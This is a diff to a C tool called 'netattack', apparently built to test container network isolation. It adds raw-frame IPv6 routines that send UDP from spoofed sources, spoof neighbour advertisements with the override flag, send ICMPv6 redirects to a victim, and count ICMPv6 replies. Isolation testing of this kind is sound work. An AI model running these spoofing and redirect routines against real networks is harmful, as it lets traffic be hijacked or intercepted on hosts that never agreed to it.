@@ -10,12 +10,22 @@
                                                for 2.5 s (an entry younger than locktime stays)
      ra                                        three IPv6 router advertisements to all nodes: prefix
                                                2001:db8:5d::/64 for SLAAC, this pod as default router
+     udp6 GATEWAY_MAC SOURCE DESTINATION PORT  udp over IPv6 ("own": eth0's global address, "ll": its
+                                               link-local one)
+     na TARGET_IP6 [MAC]                       unsolicited neighbour advertisements to all nodes, from
+                                               eth0's link-local address: "TARGET_IP6 ("own": eth0's
+                                               address) is at MAC (eth0's)" (override), every 100 ms for 1 s
+
+     redirect MAC IP6 TARGET DESTINATION       three ICMPv6 redirects to MAC, IP6, from eth0's link-local
+                                               address: "for DESTINATION, TARGET is the better first hop"
+     sniff TYPE SECONDS                        how many ICMPv6 messages of TYPE arrive on eth0 in SECONDS
 
    Frames go out through a packet socket, so that neither the pod's routing nor its own checks
    stand in the way: only what the host and the bridge do decides what arrives. */
 #define _GNU_SOURCE
 #include <arpa/inet.h>
 #include <errno.h>
+#include <ifaddrs.h>
 #include <net/ethernet.h>
 #include <net/if.h>
 #include <netinet/in.h>
@@ -35,6 +45,7 @@
 static int sock, ifindex;
 static uint8_t own_mac[6];
 static struct in_addr own_address;
+static struct in6_addr own_address6, own_link_local;
 
 static void fail(const char *what) {
     fprintf(stderr, "netattack: %s: %s\n", what, strerror(errno));
@@ -76,6 +87,19 @@ static void open_eth0(void) {
     if (ioctl(sock, SIOCGIFADDR, &request) < 0)
         fail("SIOCGIFADDR eth0");
     own_address = ((struct sockaddr_in *)&request.ifr_addr)->sin_addr;
+    struct ifaddrs *addresses, *each;
+    if (getifaddrs(&addresses) < 0)
+        fail("getifaddrs");
+    for (each = addresses; each; each = each->ifa_next) {
+        if (!each->ifa_addr || each->ifa_addr->sa_family != AF_INET6 || strcmp(each->ifa_name, "eth0") != 0)
+            continue;
+        struct in6_addr found = ((struct sockaddr_in6 *)each->ifa_addr)->sin6_addr;
+        if (IN6_IS_ADDR_LINKLOCAL(&found))
+            own_link_local = found;
+        else
+            own_address6 = found;
+    }
+    freeifaddrs(addresses);
     bound.sll_ifindex = ifindex;
     if (bind(sock, (struct sockaddr *)&bound, sizeof bound) < 0)
         fail("bind eth0");
@@ -270,9 +294,120 @@ static int ra(void) {
     return 0;
 }
 
+static struct in6_addr parse_ipv6(const char *text) {
+    struct in6_addr address;
+    if (strcmp(text, "own") == 0)
+        return own_address6;
+    if (strcmp(text, "ll") == 0)
+        return own_link_local;
+    if (inet_pton(AF_INET6, text, &address) != 1) {
+        fprintf(stderr, "netattack: bad address %s\n", text);
+        exit(2);
+    }
+    return address;
+}
+
+/* An IPv6 header at ip for a payload of length bytes of protocol next, and the payload's
+   checksum (at offset check_at) over the pseudo-header. */
+static size_t ipv6(uint8_t *ip, const struct in6_addr *source, const struct in6_addr *destination, uint8_t next,
+                   uint8_t hop_limit, size_t length, size_t check_at) {
+    uint8_t pseudo[40] = {0};
+    memset(ip, 0, 40);
+    ip[0] = 0x60;
+    ip[4] = (uint8_t)(length >> 8), ip[5] = (uint8_t)length;
+    ip[6] = next;
+    ip[7] = hop_limit;
+    memcpy(ip + 8, source, 16);
+    memcpy(ip + 24, destination, 16);
+    memcpy(pseudo, ip + 8, 32);
+    pseudo[34] = (uint8_t)(length >> 8), pseudo[35] = (uint8_t)length;
+    pseudo[39] = next;
+    uint16_t check = fold(sum16(ip + 40, length, sum16(pseudo, 40, 0)));
+    memcpy(ip + 40 + check_at, &check, 2);
+    return 40 + length;
+}
+
+static int udp6(char **argv) {
+    uint8_t gateway[6], frame[160] = {0};
+    parse_mac(argv[0], gateway);
+    struct in6_addr source = parse_ipv6(argv[1]), destination = parse_ipv6(argv[2]);
+    uint16_t port = (uint16_t)atoi(argv[3]);
+    size_t at = ethernet(frame, gateway, ETHERTYPE_IPV6);
+    uint8_t *segment = frame + at + 40;
+    size_t length = 8 + strlen(PAYLOAD);
+    segment[0] = 40000 >> 8, segment[1] = 40000 & 0xff;
+    segment[2] = (uint8_t)(port >> 8), segment[3] = (uint8_t)port;
+    segment[4] = (uint8_t)(length >> 8), segment[5] = (uint8_t)length;
+    memcpy(segment + 8, PAYLOAD, strlen(PAYLOAD));
+    at += ipv6(frame + at, &source, &destination, IPPROTO_UDP, 64, length, 6);
+    send_frame(frame, at);
+    return 0;
+}
+
+static int na(char **argv) {
+    static const uint8_t all_nodes_mac[6] = {0x33, 0x33, 0, 0, 0, 1};
+    struct in6_addr victim = parse_ipv6(argv[0]), all_nodes;
+    inet_pton(AF_INET6, "ff02::1", &all_nodes);
+    uint8_t frame[128] = {0};
+    size_t at = ethernet(frame, all_nodes_mac, ETHERTYPE_IPV6);
+    uint8_t *icmp = frame + at + 40;
+    size_t length = 24 + 8; /* the advertisement and a target link-layer address option */
+    icmp[0] = 136;  /* neighbour advertisement */
+    icmp[4] = 0x20; /* override */
+    memcpy(icmp + 8, &victim, 16);
+    icmp[24] = 2, icmp[25] = 1;
+    memcpy(icmp + 26, own_mac, 6);
+    if (argv[1])
+        parse_mac(argv[1], icmp + 26);
+    at += ipv6(frame + at, &own_link_local, &all_nodes, IPPROTO_ICMPV6, 255, length, 2);
+    for (int i = 0; i < 10; i++) {
+        send_frame(frame, at);
+        usleep(100000);
+    }
+    return 0;
+}
+
+static int redirect(char **argv) {
+    uint8_t victim_mac[6], frame[128] = {0};
+    parse_mac(argv[0], victim_mac);
+    struct in6_addr victim = parse_ipv6(argv[1]), target = parse_ipv6(argv[2]), destination = parse_ipv6(argv[3]);
+    size_t at = ethernet(frame, victim_mac, ETHERTYPE_IPV6);
+    uint8_t *icmp = frame + at + 40;
+    size_t length = 8 + 16 + 16;
+    icmp[0] = 137; /* redirect */
+    memcpy(icmp + 8, &target, 16);
+    memcpy(icmp + 24, &destination, 16);
+    at += ipv6(frame + at, &own_link_local, &victim, IPPROTO_ICMPV6, 255, length, 2);
+    for (int i = 0; i < 3; i++) {
+        send_frame(frame, at);
+        usleep(200000);
+    }
+    return 0;
+}
+
+static int sniff(char **argv) {
+    int type = atoi(argv[0]), count = 0;
+    uint8_t frame[2048];
+    struct timespec start, now;
+    clock_gettime(CLOCK_MONOTONIC, &start);
+    for (;;) {
+        clock_gettime(CLOCK_MONOTONIC, &now);
+        long left = atol(argv[1]) * 1000 - ((now.tv_sec - start.tv_sec) * 1000 + (now.tv_nsec - start.tv_nsec) / 1000000);
+        struct pollfd ready = {.fd = sock, .events = POLLIN};
+        if (left <= 0 || poll(&ready, 1, (int)left) <= 0)
+            break;
+        ssize_t got = recv(sock, frame, sizeof frame, 0);
+        if (got >= 14 + 40 + 4 && frame[12] == 0x86 && frame[13] == 0xdd && frame[14 + 6] == IPPROTO_ICMPV6 &&
+            frame[14 + 40] == type)
+            count++;
+    }
+    printf("%d\n", count);
+    return 0;
+}
+
 int main(int argc, char **argv) {
     if (argc < 2) {
-        fputs("usage: netattack udp|syn|arp|ra ...\n", stderr);
+        fputs("usage: netattack udp|syn|arp|ra|udp6|na|redirect|sniff ...\n", stderr);
         return 2;
     }
     open_eth0();
@@ -284,6 +419,14 @@ int main(int argc, char **argv) {
         return arp(argv + 2);
     if (strcmp(argv[1], "ra") == 0 && argc == 2)
         return ra();
+    if (strcmp(argv[1], "udp6") == 0 && argc == 6)
+        return udp6(argv + 2);
+    if (strcmp(argv[1], "redirect") == 0 && argc == 6)
+        return redirect(argv + 2);
+    if (strcmp(argv[1], "sniff") == 0 && argc == 4)
+        return sniff(argv + 2);
+    if (strcmp(argv[1], "na") == 0 && (argc == 3 || argc == 4))
+        return na(argv + 2);
     fputs("netattack: bad arguments\n", stderr);
     return 2;
 }
